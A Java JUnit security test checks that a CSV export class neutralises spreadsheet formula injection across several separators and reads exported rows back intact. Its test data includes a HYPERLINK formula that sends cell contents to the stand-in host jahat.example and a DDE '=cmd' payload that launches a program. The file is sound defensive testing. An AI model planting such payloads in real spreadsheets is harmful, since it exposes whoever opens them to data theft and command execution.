package id.pulang.incidents.lists;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import id.pulang.incidents.files.HarmlessText;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a list is copied out as is text to every spreadsheet, wherever that parts cells. */
@Tag("security")
class HarmlessTextTests {

    private static final List<String> SENT = List.of(
            "Siti;=HYPERLINK(\"http://jahat.example/?x=\"&A1,\"klik\")",
            "Budi;=cmd|'/c calc'!A1;",
            "Siti;=1+2;",
            "Rangga\t@SUM(1)",
            "Bayu|+1+2",
            "Galih\n-1-2",
            "Wulan; \"=1+2",
            "Dewi;\uFF1D1+1",
            "=1+2");

    @ParameterizedTest
    @ValueSource(chars = {';', '\t', '|', ','})
    void noProgramFindsAFormulaAtTheBeginningOfACell(char separator) {
        var text = new HarmlessText();
        text.line(List.of("Nama", "Catatan"));
        SENT.forEach(cell -> text.line(List.of(cell, cell)));

        var cells = CsvReader.builder()
                .fieldSeparator(separator)
                .allowExtraFields(true)
                .allowMissingFields(true)
                .allowExtraCharsAfterClosingQuote(true)
                .allowUnclosedQuote(true)
                .ofCsvRecord(text.toString().substring(1))
                .stream()
                .flatMap(line -> line.getFields().stream())
                .flatMap(cell -> cell.lines())
                .map(cell -> cell.replaceFirst("^[\\s\"]+", ""))
                .toList();

        assertThat(cells).isNotEmpty().noneMatch(cell -> cell.matches("[=+\\-@\uFF1D].*"));
    }

    @Test
    void whatIsCopiedOutIsReadAgainAsItStands() {
        var text = new HarmlessText();
        text.line(List.of("No", "Nama", "Tgl Lahir", "Telepon"));
        text.line(List.of("1", "Siti \"Iti\" Aminah, S.E.", "03/04/1999", "+62 812-3456-7890"));
        text.line(List.of("2", "Budi;=1+2", "", "-7"));

        var again = SomeFile.table("daftar.csv", text.toString().getBytes(UTF_8));

        assertThat(List.of(again.row(1).cells(), again.row(2).cells()))
                .containsExactly(
                        List.of("1", "Siti \"Iti\" Aminah, S.E.", "03/04/1999", "+62 812-3456-7890"),
                        List.of("2", "Budi;'=1+2", "", "-7"));
    }
}
